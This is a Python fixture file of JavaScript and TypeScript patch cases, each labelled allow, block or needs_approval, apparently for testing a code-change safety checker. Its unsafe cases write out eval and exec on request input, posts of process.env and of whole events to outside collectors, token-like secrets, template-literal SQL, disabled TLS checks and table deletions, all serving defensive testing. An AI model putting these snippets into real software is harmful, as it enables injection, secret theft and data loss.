"""JavaScript and TypeScript cases."""

PARTNER = {"EGRESS_ALLOWED_HOSTS": "*.partner.example.com"}

JS_H = '''  const orders = await listOrders(tenantId, limit);
  console.log(JSON.stringify({ msg: 'listed orders', count: orders.length }));'''

CASES = [
    # ---------------------------------------------------------------- JS benign
    dict(id="js-spawn-timeout", kind="benign", category="timeout", base="js_thumbs", expect="allow",
         note="a timeout on the resize process",
         edits=[("  const result = spawnSync('/opt/bin/convert', [source, '-resize', '256x256', target]);",
                 "  const result = spawnSync('/opt/bin/convert', [source, '-resize', '256x256', target], {\n    timeout: RESIZE_TIMEOUT_MS,\n  });"),
                ("const WORK_DIR = '/tmp/thumbs';", "const WORK_DIR = '/tmp/thumbs';\nconst RESIZE_TIMEOUT_MS = 20000;")]),
    dict(id="js-retry", kind="benign", category="retry", base="js_orders", expect="allow",
         note="retries throttled queries with backoff",
         edits=[('''async function listOrders(tenantId, limit) {
  const out = await client.send(new QueryCommand({''', '''const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function sendWithRetry(command, attempts = 3) {
  for (let attempt = 1; ; attempt += 1) {
    try {
      return await client.send(command);
    } catch (err) {
      if (attempt >= attempts || err.name !== 'ProvisionedThroughputExceededException') throw err;
      await sleep(50 * 2 ** attempt);
    }
  }
}

async function listOrders(tenantId, limit) {
  const out = await sendWithRetry(new QueryCommand({''')]),
    dict(id="js-cache", kind="benign", category="caching", base="js_orders", expect="allow",
         note="a small TTL cache per container",
         edits=[("const TABLE = process.env.TABLE_NAME;", "const TABLE = process.env.TABLE_NAME;\nconst cache = new Map();\nconst TTL_MS = 15000;"),
                ('''async function listOrders(tenantId, limit) {
''', '''async function listOrders(tenantId, limit) {
  const hit = cache.get(`${tenantId}:${limit}`);
  if (hit && Date.now() - hit.at < TTL_MS) return hit.items;
'''),
                ("  return out.Items || [];", "  const items = out.Items || [];\n  cache.set(`${tenantId}:${limit}`, { at: Date.now(), items });\n  return items;")]),
    dict(id="js-logging-words", kind="benign", category="logging", base="js_orders", expect="allow",
         note="log lines mentioning secrets and passwords in prose",
         edits=[(JS_H, JS_H + "\n  if (!orders.length) console.info('no orders (password and secret rotation are handled elsewhere)');")]),
    dict(id="js-validation", kind="benign", category="validation", base="js_orders", expect="allow",
         note="validates the limit",
         edits=[("  const limit = Number((event.queryStringParameters || {}).limit || 50);",
                 "  const limit = Number((event.queryStringParameters || {}).limit || 50);\n  if (!Number.isInteger(limit) || limit < 1 || limit > 500) {\n    return response(400, { error: 'limit must be 1-500' });\n  }")]),
    dict(id="js-pagination", kind="benign", category="pagination", base="js_orders", expect="allow",
         note="follows LastEvaluatedKey",
         edits=[('''  const out = await client.send(new QueryCommand({
    TableName: TABLE,
    KeyConditionExpression: 'tenant_id = :t',
    ExpressionAttributeValues: { ':t': tenantId },
    Limit: limit,
  }));
  return out.Items || [];''', '''  const items = [];
  let startKey;
  do {
    const out = await client.send(new QueryCommand({
      TableName: TABLE,
      KeyConditionExpression: 'tenant_id = :t',
      ExpressionAttributeValues: { ':t': tenantId },
      Limit: limit,
      ExclusiveStartKey: startKey,
    }));
    items.push(...(out.Items || []));
    startKey = out.LastEvaluatedKey;
  } while (startKey && items.length < limit);
  return items.slice(0, limit);''')]),
    dict(id="js-regex-exec", kind="benign", category="validation", base="js_orders", expect="allow",
         note="RegExp.prototype.exec is not child_process.exec",
         edits=[("  const tenantId = event.requestContext.authorizer.tenantId;",
                 "  const tenantId = event.requestContext.authorizer.tenantId;\n  const match = /^[a-z0-9-]{2,40}$/.exec(tenantId);\n  if (!match) return response(403, { error: 'unknown tenant' });")]),
    dict(id="js-refactor-rename", kind="benign", category="refactor", base="js_orders", expect="allow",
         note="renames a private helper",
         edits=[("function response(statusCode, body) {", "function jsonResponse(statusCode, body) {"),
                ("  return response(200, { orders });", "  return jsonResponse(200, { orders });")]),
    dict(id="js-exiftool-fixed", kind="benign", category="refactor", base="js_thumbs", expect="allow",
         note="strips metadata with a fixed program and argument list",
         edits=[("  resize(source, target);", "  resize(source, target);\n  spawnSync('/opt/bin/exiftool', ['-all=', '-overwrite_original', target], { timeout: 10000 });")]),
    dict(id="js-tmp-clean", kind="benign", category="refactor", base="js_thumbs", expect="allow",
         note="removes its own fixed scratch directory",
         edits=[("  return { key };", "  fs.rmSync(WORK_DIR, { recursive: true, force: true });\n  return { key };")]),
    dict(id="js-docs", kind="benign", category="docs", base="js_orders", expect="allow",
         note="JSDoc only",
         edits=[("async function listOrders(tenantId, limit) {", "/**\n * A tenant's orders, newest first.\n * @param {string} tenantId the partition key\n * @param {number} limit at most this many\n */\nasync function listOrders(tenantId, limit) {")]),
    # ---------------------------------------------------------------- JS unsafe
    dict(id="js-eval-filter", kind="unsafe", category="code_execution", base="js_orders", expect="block",
         note="eval of a query parameter",
         edits=[(JS_H, JS_H.replace("  console.log", "  const keep = eval((event.queryStringParameters || {}).filter || 'true');\n  console.log"))]),
    dict(id="js-new-function", kind="unsafe", category="code_execution", base="js_orders", expect="block",
         note="new Function from a request expression",
         edits=[(JS_H, JS_H + "\n  const expr = event.queryStringParameters.sort;\n  const sorter = new Function('a', 'b', 'return ' + expr);\n  orders.sort(sorter);")]),
    dict(id="js-exec-template", kind="unsafe", category="code_execution", base="js_thumbs", expect="block",
         note="exec with a template literal from the S3 key",
         edits=[("const { spawnSync } = require('child_process');", "const { spawnSync, exec } = require('child_process');"),
                ("  resize(source, target);", "  exec(`/opt/bin/convert ${source} -strip ${target}`);")]),
    dict(id="js-promisified-exec", kind="unsafe", category="code_execution", base="js_thumbs", expect="block",
         note="util.promisify(exec) called with a concatenated command",
         edits=[("const path = require('path');", "const path = require('path');\nconst util = require('util');\nconst run = util.promisify(require('child_process').exec);"),
                ("  return { key };", "  await run('tar czf /tmp/out.tgz ' + key);\n  return { key };")]),
    dict(id="js-vm-run", kind="unsafe", category="code_execution", base="js_orders", expect="block",
         note="vm.runInNewContext on request code",
         edits=[("'use strict';\n", "'use strict';\nconst vm = require('vm');\n"),
                (JS_H, JS_H + "\n  const shaped = vm.runInNewContext(event.body, { orders });")]),
    dict(id="js-reflect-apply-eval", kind="unsafe", category="code_execution", base="js_orders", expect="block",
         note="eval reached through Reflect.apply, to dodge a callee-name check",
         edits=[(JS_H, JS_H + "\n  const shaped = Reflect.apply(eval, null, [event.queryStringParameters.expr]);")]),
    dict(id="js-dynamic-require", kind="unsafe", category="code_execution", base="js_orders", expect="block",
         note="a formatter module named by the request",
         edits=[(JS_H, JS_H + "\n  const fmt = require(`./formatters/${event.queryStringParameters.format}`);")]),
    dict(id="js-rm-computed", kind="unsafe", category="destructive", base="js_thumbs", expect="needs_approval",
         note="recursive delete of a directory named by the key",
         edits=[("  return { key };", "  fs.rmSync(path.join(WORK_DIR, path.dirname(key)), { recursive: true, force: true });\n  return { key };")]),
    dict(id="js-delete-table", kind="unsafe", category="destructive", base="js_orders", expect="needs_approval",
         note="DeleteTableCommand on a reset flag",
         edits=[("const { DynamoDBClient } = require('@aws-sdk/client-dynamodb');", "const { DynamoDBClient, DeleteTableCommand } = require('@aws-sdk/client-dynamodb');"),
                ("  const tenantId = event.requestContext.authorizer.tenantId;", "  const tenantId = event.requestContext.authorizer.tenantId;\n  if (event.queryStringParameters && event.queryStringParameters.reset) {\n    await client.send(new DeleteTableCommand({ TableName: TABLE }));\n  }")]),
    dict(id="js-reject-unauthorized", kind="unsafe", category="tls", base="js_thumbs", expect="needs_approval",
         note="an HTTPS agent that skips certificate checks",
         edits=[("const path = require('path');", "const path = require('path');\nconst https = require('https');\nconst insecureAgent = new https.Agent({ rejectUnauthorized: false, keepAlive: true });")]),
    dict(id="js-tls-env", kind="unsafe", category="tls", base="js_orders", expect="needs_approval",
         note="NODE_TLS_REJECT_UNAUTHORIZED=0 for the whole process",
         edits=[("const TABLE = process.env.TABLE_NAME;", "const TABLE = process.env.TABLE_NAME;\nprocess.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';")]),
    dict(id="js-exfil-env", kind="unsafe", category="exfiltration", base="js_orders", expect="block",
         note="posts process.env to a collector",
         edits=[(JS_H, JS_H + "\n  await fetch('https://collector.example.net/x', { method: 'POST', body: JSON.stringify(process.env) });")]),
    dict(id="js-secret-slack", kind="unsafe", category="secrets", base="js_orders", expect="block",
         note="a Slack bot token in the source",
         edits=[("const TABLE = process.env.TABLE_NAME;", "const TABLE = process.env.TABLE_NAME;\nconst SLACK_TOKEN = 'xoxb-2918374650-4827365019-Qm8ZrT2vYkP9wLs3NdX7cB1h';")]),
    dict(id="js-proto-merge", kind="unsafe", category="deserialization", base="js_orders", expect="needs_approval",
         env={"IMPORT_ALLOWED": "javascript:lodash"},
         note="lodash merge of the request body into shared defaults",
         edits=[("'use strict';\n", "'use strict';\nconst _ = require('lodash');\nconst defaults = { limit: 50 };\n"),
                ("  const limit = Number((event.queryStringParameters || {}).limit || 50);", "  const options = _.merge(defaults, JSON.parse(event.body || '{}'));\n  const limit = Number(options.limit);")]),
    dict(id="js-node-serialize", kind="unsafe", category="deserialization", base="js_orders", expect="needs_approval",
         env={"IMPORT_ALLOWED": "javascript:node-serialize"},
         note="node-serialize unserialize of the body",
         edits=[("'use strict';\n", "'use strict';\nconst serialize = require('node-serialize');\n"),
                ("  const limit = Number((event.queryStringParameters || {}).limit || 50);", "  const prefs = serialize.unserialize(event.body);\n  const limit = Number(prefs.limit || 50);")]),
    dict(id="js-export-removed", rule="removed_export", kind="unsafe", category="compatibility", base="js_orders", expect="needs_approval",
         note="listOrders is no longer exported",
         edits=[("\nmodule.exports.listOrders = listOrders;\n", "\n")]),
    dict(id="js-tenant-scan", kind="unsafe", category="tenant", base="js_orders", expect="needs_approval",
         note="the keyed query becomes a filtered scan",
         edits=[("const { DynamoDBDocumentClient, QueryCommand } = require('@aws-sdk/lib-dynamodb');", "const { DynamoDBDocumentClient, ScanCommand } = require('@aws-sdk/lib-dynamodb');"),
                ('''  const out = await client.send(new QueryCommand({
    TableName: TABLE,
    KeyConditionExpression: 'tenant_id = :t',
    ExpressionAttributeValues: { ':t': tenantId },
    Limit: limit,
  }));''', '''  const out = await client.send(new ScanCommand({
    TableName: TABLE,
    Limit: limit,
  }));''')]),
    dict(id="js-syntax-brace", kind="unsafe", category="syntax", base="js_orders", expect="block",
         note="a missing closing brace",
         edits=[('''function response(statusCode, body) {
  return {''', '''function response(statusCode, body) {
  if (statusCode >= 500) {
    console.error('failing');
  return {''')]),
    dict(id="js-import-axios", kind="unsafe", category="imports", base="js_orders", expect="needs_approval",
         note="a new package outside the allow-list",
         edits=[("'use strict';\n", "'use strict';\nconst axios = require('axios');\n")]),
    # ---------------------------------------------------------------- TS benign
    dict(id="ts-fetch-timeout", kind="benign", category="timeout", base="ts_api", env=PARTNER, expect="allow",
         note="an abort timeout on the partner call",
         edits=[("    method: 'POST',\n", "    method: 'POST',\n    signal: AbortSignal.timeout(3000),\n")]),
    dict(id="ts-retry", kind="benign", category="retry", base="ts_api", env=PARTNER, expect="allow",
         note="retries 5xx answers twice",
         edits=[('''export async function fetchQuotes(skus: string[]): Promise<Quote[]> {
  const res = await fetch(PARTNER_URL, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ skus }),
  });''', '''export async function fetchQuotes(skus: string[]): Promise<Quote[]> {
  let res = await post(skus);
  for (let attempt = 1; attempt <= 2 && res.status >= 500; attempt += 1) {
    await new Promise((resolve) => setTimeout(resolve, 100 * attempt));
    res = await post(skus);
  }'''),
                ('''export const handler''', '''function post(skus: string[]): Promise<Response> {
  return fetch(PARTNER_URL, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ skus }),
  });
}

export const handler''')]),
    dict(id="ts-config-cache", kind="benign", category="caching", base="ts_api", env=PARTNER, expect="allow",
         note="caches each tenant's config for a minute",
         edits=[("const PARTNER_URL = 'https://api.partner.example.com/v2/quotes';", "const PARTNER_URL = 'https://api.partner.example.com/v2/quotes';\nconst configCache = new Map<string, { at: number; value: Record<string, unknown> }>();"),
                ('''async function loadConfig(tenantId: string): Promise<Record<string, unknown>> {
''', '''async function loadConfig(tenantId: string): Promise<Record<string, unknown>> {
  const hit = configCache.get(tenantId);
  if (hit && Date.now() - hit.at < 60_000) return hit.value;
''')]),
    dict(id="ts-validation", kind="benign", category="validation", base="ts_api", env=PARTNER, expect="allow",
         note="rejects malformed SKUs",
         edits=[("  const quotes = await fetchQuotes(skus);", "  if (skus.some((s) => !/^[A-Z0-9-]{3,20}$/.test(s))) {\n    return { statusCode: 400, body: JSON.stringify({ error: 'bad sku' }) };\n  }\n  const quotes = await fetchQuotes(skus);")]),
    dict(id="ts-logging-token-word", kind="benign", category="logging", base="ts_reports", expect="allow",
         note="a log line with the word token",
         edits=[("  console.log(JSON.stringify({ msg: 'daily totals', day, regions: totals.length }));", "  console.log(JSON.stringify({ msg: 'daily totals', day, regions: totals.length }));\n  console.debug('token bucket refilled; secret rotation not due');")]),
    dict(id="ts-batching", kind="benign", category="batching", base="ts_api", env=PARTNER, expect="allow",
         note="asks for quotes 50 SKUs at a time",
         edits=[("  const quotes = await fetchQuotes(skus);", "  const quotes: Quote[] = [];\n  for (let i = 0; i < skus.length; i += 50) {\n    quotes.push(...(await fetchQuotes(skus.slice(i, i + 50))));\n  }")]),
    dict(id="ts-param-query", kind="benign", category="refactor", base="ts_reports", expect="allow",
         note="a new query with bound parameters",
         edits=[('''export async function handler''', '''export async function regionTotal(day: string, region: string): Promise<number> {
  const result = await pool.query(
    'SELECT COALESCE(SUM(amount), 0) AS total FROM sales WHERE day = $1 AND region = $2',
    [day, region],
  );
  return Number(result.rows[0].total);
}

export async function handler''')]),
    dict(id="ts-refactor-parse", kind="benign", category="refactor", base="ts_api", env=PARTNER, expect="allow",
         note="extracts SKU parsing",
         edits=[("  const skus = (event.queryStringParameters?.skus ?? '').split(',').filter(Boolean);", "  const skus = parseSkus(event.queryStringParameters?.skus);"),
                ("export const handler", "function parseSkus(raw: string | undefined): string[] {\n  return (raw ?? '').split(',').map((s) => s.trim()).filter(Boolean);\n}\n\nexport const handler")]),
    dict(id="ts-types", kind="benign", category="refactor", base="ts_api", env=PARTNER, expect="allow",
         note="type-only additions",
         edits=[("  price: number;\n}", "  price: number;\n  currency?: string;\n  validUntil?: string;\n}")]),
    # ---------------------------------------------------------------- TS unsafe
    dict(id="ts-sql-template", kind="unsafe", category="sql", base="ts_reports", expect="needs_approval",
         note="a template literal query",
         edits=[('''export async function handler''', '''export async function regionTotal(region: string): Promise<number> {
  const result = await pool.query(`SELECT SUM(amount) AS total FROM sales WHERE region = '${region}'`);
  return Number(result.rows[0].total);
}

export async function handler''')]),
    dict(id="ts-drop-table", kind="unsafe", category="destructive", base="ts_reports", expect="needs_approval",
         note="drops the staging table every run",
         edits=[("  const day = event.time.slice(0, 10);", "  const day = event.time.slice(0, 10);\n  await pool.query('DROP TABLE IF EXISTS sales_staging');")]),
    dict(id="ts-delete-no-where", kind="unsafe", category="destructive", base="ts_reports", expect="needs_approval",
         note="DELETE without WHERE",
         edits=[("  const day = event.time.slice(0, 10);", "  const day = event.time.slice(0, 10);\n  await pool.query('DELETE FROM sales_daily');")]),
    dict(id="ts-egress-unknown", kind="unsafe", category="egress", base="ts_api", env=PARTNER, expect="needs_approval",
         note="a new metrics call to a host off the allow-list",
         edits=[("  const quotes = await fetchQuotes(skus);", "  const quotes = await fetchQuotes(skus);\n  await fetch('https://metrics.evil-collector.net/ingest', { method: 'POST', body: JSON.stringify({ n: quotes.length }) });")]),
    dict(id="ts-exfil-event", kind="unsafe", category="exfiltration", base="ts_api", env=PARTNER, expect="block",
         note="posts the whole event to an outside host",
         edits=[("  const config = await loadConfig(tenantId);", "  const config = await loadConfig(tenantId);\n  void fetch('https://webhook.site/3f2a', { method: 'POST', body: JSON.stringify(event) });")]),
    dict(id="ts-secret-stripe", kind="unsafe", category="secrets", base="ts_api", env=PARTNER, expect="block",
         note="a live Stripe key in the source",
         edits=[("const BUCKET = process.env.CONFIG_BUCKET ?? 'configs';", "const BUCKET = process.env.CONFIG_BUCKET ?? 'configs';\nconst STRIPE_KEY = 'sk_live_51HqT8kL2mN9pR4sV7wX0yZ3bC6dF1gJ';")]),
    dict(id="ts-signature", rule="signature_changed", kind="unsafe", category="compatibility", base="ts_api", env=PARTNER, expect="needs_approval",
         note="fetchQuotes gains a required parameter",
         edits=[("export async function fetchQuotes(skus: string[]): Promise<Quote[]> {", "export async function fetchQuotes(skus: string[], currency: string): Promise<Quote[]> {"),
                ("  const quotes = await fetchQuotes(skus);", "  const quotes = await fetchQuotes(skus, String(config.currency));"),
                ("    body: JSON.stringify({ skus }),", "    body: JSON.stringify({ skus, currency }),")]),
    dict(id="ts-handler-renamed", rule="handler_signature", kind="unsafe", category="compatibility", base="ts_api", env=PARTNER, handler="src/quotes.handler",
         expect="needs_approval", note="the configured handler export is renamed",
         edits=[("export const handler = async", "export const quotesHandler = async")]),
    dict(id="ts-tenant-literal", kind="unsafe", category="tenant", base="ts_api", env=PARTNER, tenant="acme", expect="needs_approval",
         note="an acme-scoped patch hard-codes globex",
         edits=[("  const tenantId = event.requestContext.authorizer?.lambda?.tenantId as string;", "  const tenantId: string = 'globex';")]),
    dict(id="ts-execsync", kind="unsafe", category="code_execution", base="ts_reports", expect="block",
         note="execSync with a concatenated command",
         edits=[("import { Pool } from 'pg';", "import { Pool } from 'pg';\nimport { execSync } from 'node:child_process';"),
                ("  const day = event.time.slice(0, 10);", "  const day = event.time.slice(0, 10);\n  execSync('aws s3 sync /tmp/out s3://reports/' + day);")]),
    dict(id="ts-syntax", kind="unsafe", category="syntax", base="ts_reports", expect="block",
         note="a broken type annotation",
         edits=[("  const day = event.time.slice(0, 10);", "  const day: = event.time.slice(0, 10);")]),
    dict(id="ts-protected-infra", kind="unsafe", category="protected", base="ts_reports", path="infra/lib/reports.ts", expect="needs_approval",
         note="a change under infra/",
         edits=[("max: 2 });", "max: 4 });")]),
]
